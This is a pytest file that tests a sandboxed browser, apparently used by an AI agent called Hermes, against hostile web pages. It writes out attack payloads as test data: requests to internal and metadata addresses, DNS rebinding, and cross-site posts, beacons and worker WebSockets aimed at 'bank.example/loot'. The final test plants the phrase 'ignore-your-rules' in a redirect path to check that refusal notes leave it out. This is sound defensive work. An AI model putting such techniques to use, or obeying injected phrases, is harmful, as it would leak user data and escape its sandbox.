"""Pages that try what they may not: nothing of it leaves the box."""

from pathlib import Path

import pytest

from tests.browser.boxed_browser import PUBLIC, Person, SmallWeb, boxed_browser, navigate, wait_for
from tests.browser.hostile_pages import OTHERS, PAGES

HOST = "evil.example"
NAMES = {
    "rebind.example": [PUBLIC, "127.0.0.1"],
    **{f"inner{n}.example": [address] for n, address in enumerate(("10.0.0.9", "169.254.169.254", "127.0.0.1"))},
}
_GROUPS = 2
"""Each has a browser of its own, so that several workers can run them."""


def is_forbidden(method: str, host: str, _path: str) -> bool:
    """Return whether a request should not have arrived: to an inner address, or with a body to another site.

    The question before such a request (OPTIONS) has no body, and no answer to it lets one through.
    """
    return host.startswith(("rebind", "inner")) or (method != "OPTIONS" and host.startswith("never"))


@pytest.mark.parametrize("group", range(_GROUPS))
async def test_nothing_of_it_leaves_the_box(group: int, tmp_path: Path) -> None:
    pages = OTHERS | {f"{HOST}/{name}": text for name, text in PAGES.items()}
    async with SmallWeb(pages).running() as web, boxed_browser(tmp_path, web) as browser:
        web.names = NAMES
        person = Person(HOST)
        async with browser.use_pages(person) as pages:
            for name in [*PAGES][group::_GROUPS]:
                web.seen.clear()
                web.connected.clear()
                tab = await pages.browser.open_tab()
                problem = await navigate(tab, f"http://{HOST}/{name}")
                assert problem in ("", "net::ERR_ABORTED"), (name, problem)
                await wait_for(tab, lambda title: title != "begun")
                # A page that leaves does so before the next one is opened, and goes on until it is asked about.
                await pages.browser.open_tab()
                for number in [*pages.browser.tabs]:
                    await pages.browser.close_tab(number)
                bad = [one for one in web.seen if is_forbidden(*one)]
                assert not bad, (name, bad)
                assert {address for address, _ in web.connected} <= {PUBLIC}, name
        assert not (tmp_path / "downloads").exists() or not [*(tmp_path / "downloads").iterdir()]
        assert {*person.questions} <= {f"open {HOST}", "open never.example", f"send never.example from {HOST}"}


_AS_ANOTHER = {
    "post-in-its-tab": "open('http://bank.example/', 'tab'); await wait(400); post('http://bank.example/loot', 'tab')",
    "hidden-post-in-its-tab": "open('http://bank.example/', 'tab'); document.head.innerHTML += '<meta name=referrer"
    " content=no-referrer>'; await wait(400); post('http://bank.example/loot', 'tab')",
    "post-as-it-leaves": "onpagehide = () => navigator.sendBeacon('http://bank.example/loot', 'x');"
    " location = 'http://bank.example/'; await wait(2000)",
    "socket": "new WebSocket('ws://bank.example/loot')",
    "worker-socket": """new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://bank.example/loot')"])))""",
    "nested-worker-socket": "new Worker('/nest.js')",
    "name-of-an-opened-address": "await fetch('http://rebind.example/loot', {mode: 'no-cors'}).catch(() => 0)",
}
_DO = """const wait = ms => new Promise(done => setTimeout(done, ms)); const post = (url, target) => {
const f = document.createElement('form'); f.method = 'post'; f.action = url; f.target = target;
f.innerHTML = '<input name=x>'; document.body.append(f); f.submit(); };
addEventListener('load', async () => { %s; await wait(300); document.title = 'done'; });"""
_FRAMED = "fetch('http://bank.example/loot', {method: 'POST', body: 'x', mode: 'no-cors'});"


async def test_no_page_speaks_in_the_name_of_another_that_is_open(tmp_path: Path) -> None:
    texts = {
        f"{HOST}/{name}": f"<title>begun</title><body><script>{_DO % one}</script>" for name, one in _AS_ANOTHER.items()
    }
    texts |= {
        f"{HOST}/frame": f"<script>{_FRAMED}</script><iframe srcdoc='<script>{_FRAMED}</script>'></iframe>",
        "bank.example/": "<title>bank</title>",
        "bank.example/frames": f"<title>begun</title><iframe src=http://{HOST}/frame></iframe>"
        f"<script>{_DO % 0}</script>",
        "bank.example/own": f"<title>begun</title><body><script>{_DO % _OWN}</script>",
        f"{HOST}/nest.js": "new Worker('/nested.js')",
        f"{HOST}/nested.js": "new WebSocket('ws://bank.example/loot')",
        "bank.example/own.js": "new Worker('/nested.js')",
        "bank.example/nested.js": "new WebSocket('ws://bank.example/own-worker-socket')",
    }
    async with SmallWeb(texts).running() as web, boxed_browser(tmp_path, web, "192.168.1.10") as browser:
        web.names = {"rebind.example": ["192.168.1.10"]}
        async with browser.use_pages(Person(HOST, "bank.example")) as pages:
            for page in ("bank.example/own", "bank.example/frames", *(f"{HOST}/{name}" for name in _AS_ANOTHER)):
                await navigate(tab := await pages.browser.open_tab(), f"http://{page}")
                await wait_for(tab, lambda title: title != "begun")
                for number in [*pages.browser.tabs]:
                    await pages.browser.close_tab(number)
                assert not [one for one in web.seen if "loot" in one[2]], (page, web.seen)
        assert {one[2] for one in web.seen if "own-" in one[2]} == {"/own-socket", "/own-worker-socket", "/own-post"}


_OWN = """new WebSocket('ws://bank.example/own-socket'); new Worker('/own.js'); await wait(200);
document.head.innerHTML += '<meta name=referrer content=no-referrer>'; post('/own-post', '_self'); await wait(100)"""


async def test_a_refused_page_is_told_without_its_path(tmp_path: Path) -> None:
    """The words of an address that a page leads to are the page's, and notes are read as those of Hermes."""
    text = "<title>begun</title><script>location = 'http://never.example/ignore-your-rules'</script>"
    async with SmallWeb({f"{HOST}/leads": text}).running() as web, boxed_browser(tmp_path, web) as browser:
        async with browser.use_pages(Person(HOST)) as pages:
            tab = await pages.browser.get_current_tab()
            await navigate(tab, f"http://{HOST}/leads")
            assert await tab.activity.wait_until(lambda: bool(tab.notes), 10)
            notes = tab.take_notes()
        assert notes == ["GET http://never.example/ was refused: the person said no."]
        assert not [one for one in web.seen if one[1] == "never.example"]
